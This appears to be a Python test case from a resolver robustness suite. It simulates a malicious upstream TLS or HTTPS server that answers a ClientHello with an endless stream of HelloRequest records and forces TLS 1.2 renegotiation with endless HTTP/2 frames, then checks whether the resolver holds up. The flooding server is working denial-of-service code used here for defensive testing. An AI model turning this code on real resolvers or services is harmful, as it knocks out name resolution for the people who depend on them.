# SPDX-License-Identifier: Apache-2.0
"""An upstream over HTTPS or TLS answers a ClientHello with HelloRequests without end (RFC 5246 §7.4.1.1).

The attack needs no certificate, so an attacker on the network path can run it.
"""
import contextlib
import os
import tempfile

from OpenSSL import SSL

import common
import endless_frames
import servers

TITLE = "an upstream over HTTPS or TLS sends HelloRequests without end"
PROMISE = servers.PROMISE
PEERS = ("unbound",)

HELLO_REQUEST = b"\x16\x03\x03\x00\x04" + bytes(4)


def greet(client):
    client.recv(65536)
    while True:
        client.sendall(HELLO_REQUEST * 7000)


def renegotiate(client, directory):
    """Answers over TLS 1.2 with a HelloRequest and endless frames; Python's `ssl` cannot send a HelloRequest."""
    context = SSL.Context(SSL.TLS_SERVER_METHOD)
    context.set_max_proto_version(SSL.TLS1_2_VERSION)
    context.use_certificate_file(os.path.join(directory, "certificate.pem"))
    context.use_privatekey_file(os.path.join(directory, "key.pem"))
    context.set_alpn_select_callback(lambda connection, protocols: b"h2")
    with contextlib.suppress(SSL.Error):
        stream = SSL.Connection(context, client)
        stream.set_accept_state()

        def begin():
            stream.renegotiate()
            stream.do_handshake()

        endless_frames.answer(stream, begin)


def run(programs, server):
    """unbound has no upstreams over HTTPS."""
    with tempfile.TemporaryDirectory() as directory:
        file, _ = common.certificate(directory)
        parts = {"TLS": ("tls", greet)}
        if server == "httpdnsd":
            parts["HTTPS"] = ("https", greet)
            parts["renegotiation"] = ("https", lambda client: renegotiate(client, directory))
        results = {name: servers.attacked(programs, server, scheme, file, serve)
                   for name, (scheme, serve) in parts.items()}
    figure = ", ".join(f"{name}: {figure}" for name, (figure, _) in results.items())
    return figure, all(holds for _, holds in results.values())


if __name__ == "__main__":
    common.main(globals())
